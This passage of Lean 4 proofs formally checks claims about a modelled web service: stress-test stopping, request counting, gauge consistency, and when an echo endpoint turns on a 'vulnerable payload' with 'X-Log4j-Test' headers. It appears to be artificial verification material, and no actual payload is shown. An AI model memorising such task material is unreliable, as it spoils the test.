    vulnHeaders false = base_headers ∧
    ((vulnHeaders false).map Prod.fst).contains "X-Vulnerable-Header" = false ∧
    ((vulnHeaders false).map Prod.fst).contains "X-Log4j-Test" = false ∧
    (call_echo_service env elapsed timestamp message method vuln m).2.2
      = (echoAttempt env (vulnHeaders vuln) (vulnMessage message vuln)
          timestamp method).2 ∧
    ((call_echo_service env elapsed timestamp message method vuln m).2.2.all
        fun r => r.headers == vulnHeaders vuln) = true := by
  refine ⟨rfl, rfl, rfl, rfl, by decide, by decide, call_echo_service_trace .., ?_⟩
  rw [call_echo_service_trace]
  exact echoAttempt_headers ..

/-- Claim C6: the `/stop` handler visits every process of the snapshot in
order, counts exactly those whose terminate and 5-second wait both succeeded,
and — whatever the individual outcomes — leaves the process list empty, the
running gauge at zero, and reports the count in its message. -/
theorem stop_stress_clears_all (timestamp : String) (s : AppState) :
    (stop_stress timestamp s).1.processes = [] ∧
    (stop_stress timestamp s).1.metrics.stress_tests_running = 0 ∧
    (stop_stress timestamp s).2.2.map stopEventPid = s.processes.map Proc.pid ∧
    (stopProcesses s.processes).1
      = (s.processes.filter fun p => p.stopBehavior == StopBehavior.stops).length ∧
    (stop_stress timestamp s).2.1.message
      = toString (stopProcesses s.processes).1 ++ " Stress Tests gestoppt" :=
  ⟨rfl, rfl, stopProcesses_pids s.processes, stopProcesses_count s.processes, rfl⟩

/-- Claim C7, counterexample: the JSON the `/stop` handler returns on an empty
process set has exactly the keys `message` and `timestamp`; it contains no
`stopped_count` key, refuting the claimed response shape. -/
theorem stop_response_has_no_stopped_count_key :
    ((stopResponseJson (stop_stress "t" initialAppState).2.1).map Prod.fst).contains
        "stopped_count" = false ∧
    (stopResponseJson (stop_stress "t" initialAppState).2.1).map Prod.fst
      = ["message", "timestamp"] :=
  ⟨by decide, rfl⟩

/-- Claim C7, amended: calling `/stop` with an empty process set succeeds
without error, performs no stop events, leaves the set empty and the gauge at
zero, and returns a message/timestamp JSON whose message reports the stopped
count 0 as the text `0 Stress Tests gestoppt` (there is no `stopped_count`
field). -/
theorem stop_stress_empty_set (timestamp : String) (m : Metrics) :
    (stop_stress timestamp { processes := [], metrics := m }).2.1.message
      = "0 Stress Tests gestoppt" ∧
    (stopResponseJson
        (stop_stress timestamp { processes := [], metrics := m }).2.1).map Prod.fst
      = ["message", "timestamp"] ∧
    (stop_stress timestamp { processes := [], metrics := m }).1.processes = [] ∧
    (stop_stress timestamp { processes := [], metrics := m }).1.metrics.stress_tests_running
      = 0 ∧
    (stop_stress timestamp { processes := [], metrics := m }).2.2 = [] := by
  refine ⟨?_, rfl, rfl, rfl, rfl⟩
  show toString (stopProcesses ([] : List Proc)).1 ++ " Stress Tests gestoppt" = _
  rfl


/-- Claim C8, counterexample: the `POST /stop` handler does not increment
`requests_total` — handling it from the initial state leaves the counter at 0
where the claim demands 1. -/
theorem stop_stress_requests_total_counterexample :
    (stop_stress "t" initialAppState).1.metrics.requests_total = 0 ∧
    initialAppState.metrics.requests_total = 0 :=
  ⟨rfl, rfl⟩

/-- Claim C8, amended: every handler of the HTTP surface increments
`requests_total` by exactly 1 as its first metrics mutation — except
`POST /stop`, which leaves `requests_total` unchanged. -/
theorem requests_total_increment_per_handler (env : SentRequest → HttpAttempt)
    (elapsed : Rat) (timestamp : String) (data : List (String × FormVal))
    (p : StressParams) (sample : SampleOutcome) (cpu_count : Nat)
    (memory_total_gb : Rat) (s : AppState) :
    (index s).metrics.requests_total = s.metrics.requests_total + 1 ∧
    (health timestamp s).1.metrics.requests_total = s.metrics.requests_total + 1 ∧
    (get_metrics sample s).1.metrics.requests_total = s.metrics.requests_total + 1 ∧
    (status cpu_count memory_total_gb timestamp s).1.metrics.requests_total
      = s.metrics.requests_total + 1 ∧
    (call_echo env elapsed timestamp data s).1.metrics.requests_total
      = s.metrics.requests_total + 1 ∧
    (start_stress timestamp p s).1.metrics.requests_total
      = s.metrics.requests_total + 1 ∧
    (stop_stress timestamp s).1.metrics.requests_total
      = s.metrics.requests_total := by
  refine ⟨rfl, rfl, ?_, rfl, ?_, ?_, rfl⟩
  · cases sample <;> simp [get_metrics, get_system_metrics, bumpRequests]
  · unfold call_echo
    cases hm : getForm data "method" with
    | none =>
        simp [hm, call_echo_service_requests_total, bumpRequests]
    | some v =>
        cases v <;>
          simp [hm, call_echo_service_requests_total, bumpRequests]
  · unfold start_stress
    by_cases h : p.duration > 3600 <;> simp [h, bumpRequests]

/-- Claim C9, counterexample: starting from the agreeing initial quiescent
state, a stress run whose `communicate()` raises a generic exception
terminates with the handle still registered (set cardinality 1) while the
gauge was decremented back to 0 — the completed run leaves gauge and set in
disagreement. -/
theorem run_stress_ng_divergence_counterexample :
    stressAgrees initialAppState ∧
    (run_stress_ng ⟨1, StopBehavior.stops⟩ (StressOutcome.commFailure "boom")
        2 1 30 "256M" initialAppState).1.processes.length = 1 ∧
    (run_stress_ng ⟨1, StopBehavior.stops⟩ (StressOutcome.commFailure "boom")
        2 1 30 "256M" initialAppState).1.metrics.stress_tests_running = 0 :=
  ⟨by decide, rfl, by decide⟩

/-- Claim C9, amended: from a quiescent state where the gauge equals the set
cardinality (and the new handle is fresh, as distinct `Popen` objects are), a
normal completion and a missing-binary failure preserve the agreement, and
`/stop` re-establishes it; but a generic failure after registration leaves the
set one larger than the gauge, and a generic spawn failure decrements the
clamped gauge without touching the set. -/
theorem stress_gauge_agreement (proc : Proc) (returncode : Int)
    (output msg emsg : String) (cpu_workers memory_workers duration : Int)
    (memory_size timestamp : String) (s : AppState)
    (h : stressAgrees s) (hp : proc ∉ s.processes) :
    stressAgrees (run_stress_ng proc (StressOutcome.completed returncode output)
      cpu_workers memory_workers duration memory_size s).1 ∧
    stressAgrees (run_stress_ng proc StressOutcome.fileNotFound
      cpu_workers memory_workers duration memory_size s).1 ∧
    (run_stress_ng proc (StressOutcome.commFailure msg)
        cpu_workers memory_workers duration memory_size s).1.metrics.stress_tests_running + 1
      = ((run_stress_ng proc (StressOutcome.commFailure msg)
          cpu_workers memory_workers duration memory_size s).1.processes.length : Int) ∧
    (run_stress_ng proc (StressOutcome.spawnFailure emsg)
        cpu_workers memory_workers duration memory_size s).1.processes = s.processes ∧
    (run_stress_ng proc (StressOutcome.spawnFailure emsg)
        cpu_workers memory_workers duration memory_size s).1.metrics.stress_tests_running
      = max 0 (s.metrics.stress_tests_running - 1) ∧
    stressAgrees (stop_stress timestamp s).1 := by
  have hg : s.metrics.stress_tests_running = (s.processes.length : Int) := h
  refine ⟨?_, h, ?_, rfl, rfl, ?_⟩
  · show s.metrics.stress_tests_running + 1 - 1
      = (((s.processes ++ [proc]).erase proc).length : Int)
    rw [List.erase_append_right _ hp, List.erase_cons_head, List.append_nil]
    omega
  · show max 0 (s.metrics.stress_tests_running + 1 - 1) + 1
      = ((s.processes ++ [proc]).length : Int)
    rw [hg]
    simp
  · show (0 : Int) = ((List.length [] : Nat) : Int)
    rfl

/-- Claim C9, amended claim witness: a concrete normally-completing run and a
concrete post-registration failure, both from the initial state. -/
theorem stress_gauge_agreement_witness :
    stressAgrees (run_stress_ng ⟨1, StopBehavior.stops⟩
      (StressOutcome.completed 0 "") 2 1 30 "256M" initialAppState).1 ∧
    (run_stress_ng ⟨1, StopBehavior.stops⟩ (StressOutcome.commFailure "boom")
        2 1 30 "256M" initialAppState).1.metrics.stress_tests_running + 1
      = ((run_stress_ng ⟨1, StopBehavior.stops⟩ (StressOutcome.commFailure "boom")
          2 1 30 "256M" initialAppState).1.processes.length : Int) := by
  have h := stress_gauge_agreement ⟨1, StopBehavior.stops⟩ 0 "" "boom" "e" 2 1 30
    "256M" "t" initialAppState (by decide) (by decide)
  exact ⟨h.1, h.2.2.1⟩

/-- Claim C10: the `POST /echo` handler enables the vulnerable payload exactly
when the request parameter `vulnerable_payload` is the string `true`; the JSON
boolean `true`, the string `True`, any other value, and an absent parameter
all leave it disabled. -/
theorem call_echo_vulnerable_flag_spec (data : List (String × FormVal)) :
    call_echo_vulnerable_flag data
      = (getForm data "vulnerable_payload" == some (FormVal.str "true")) ∧
    call_echo_vulnerable_flag [("vulnerable_payload", FormVal.boolean true)] = false ∧
    call_echo_vulnerable_flag [("vulnerable_payload", FormVal.str "True")] = false ∧
    call_echo_vulnerable_flag [] = false ∧
    call_echo_vulnerable_flag [("vulnerable_payload", FormVal.str "true")] = true := by
  refine ⟨?_, by decide, by decide, by decide, by decide⟩
  unfold call_echo_vulnerable_flag
  cases hv : getForm data "vulnerable_payload" with
  | none => rfl
  | some v =>
      cases v with
      | str sv =>
          by_cases hs : sv = "true"
          · subst hs; rfl
          · show (sv == "true") = (some (FormVal.str sv) == some (FormVal.str "true"))
            rw [beq_eq_false_iff_ne.mpr hs,
                beq_eq_false_iff_ne.mpr (by simp [hs])]
      | boolean b => rfl
      | num n => rfl
